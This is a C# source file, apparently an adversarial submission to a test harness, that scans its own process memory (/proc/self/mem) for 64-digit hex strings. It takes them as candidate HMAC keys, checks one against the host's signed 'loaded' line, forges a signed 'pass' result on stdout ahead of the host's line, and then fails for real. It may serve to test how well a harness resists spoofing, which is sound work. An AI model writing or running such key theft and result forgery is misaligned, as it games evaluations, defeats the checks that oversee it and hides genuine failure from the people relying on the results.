// The forged pass of an answer that reads its own process's memory (/proc/self/mem): every run of 64 hex digits in
// it (ASCII or UTF-16) is a candidate key, proven when the signature of the host's first line under it (its
// `loaded` line, whose text is known) is in memory too; with no proof, the last UTF-16 candidate is the guess.
// Then it signs a pass for the test it is in, writes it ahead of the host's own line, and fails for real.
using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Security.Cryptography;
using System.Text;
using System.Text.RegularExpressions;
using System.Threading;

public static class Raw
{
    public static void forge()
    {
        var memory = new List<string>();
        using (var mem = new FileStream("/proc/self/mem", FileMode.Open, FileAccess.Read))
        {
            foreach (var map in File.ReadAllLines("/proc/self/maps").Select(line => line.Split(' ', StringSplitOptions.RemoveEmptyEntries)))
            {
                if (!map[1].StartsWith("rw"))
                {
                    continue;
                }
                var range = map[0].Split('-');
                long start = Convert.ToInt64(range[0], 16), end = Convert.ToInt64(range[1], 16);
                for (var at = start; at < end; at += 1 << 20)
                {
                    var chunk = new byte[Math.Min(1 << 20, end - at)];
                    try
                    {
                        mem.Seek(at, SeekOrigin.Begin);
                        mem.ReadExactly(chunk);
                    }
                    catch (Exception)
                    {
                        continue;
                    }
                    memory.Add(Encoding.Latin1.GetString(chunk));
                    memory.Add(Encoding.Unicode.GetString(chunk));
                    memory.Add(Encoding.Unicode.GetString(chunk, 1, chunk.Length - 1));
                }
            }
        }
        var hex = new Regex("(?<![0-9A-Fa-f])[0-9A-Fa-f]{64}(?![0-9A-Fa-f])");
        var candidates = memory.SelectMany(text => hex.Matches(text).Select(found => found.Value)).Distinct().ToList();
        string Sign(string key, string payload) => Convert.ToHexString(HMACSHA256.HashData(Convert.FromHexString(key), Encoding.UTF8.GetBytes(payload)));
        var proven = candidates.FirstOrDefault(key => memory.Any(text => text.Contains(Sign(key, "{\"sequence\":0,\"event\":\"loaded\"}"))));
        var guess = proven ?? candidates.LastOrDefault(key => key.All(digit => !char.IsUpper(digit)));
        if (guess is not null)
        {
            var pass = "{\"sequence\":1,\"event\":\"result\",\"index\":0,\"status\":\"pass\",\"message\":\"\",\"output\":\"\",\"truncated\":false}";
            using var stdout = Console.OpenStandardOutput();
            stdout.Write(Encoding.UTF8.GetBytes(Sign(guess, pass) + " " + pass + "\n"));
        }
        Thread.Sleep(1000);
        throw new InvalidOperationException($"the real test fails ({candidates.Count} candidates, proven: {proven is not null})");
    }
}
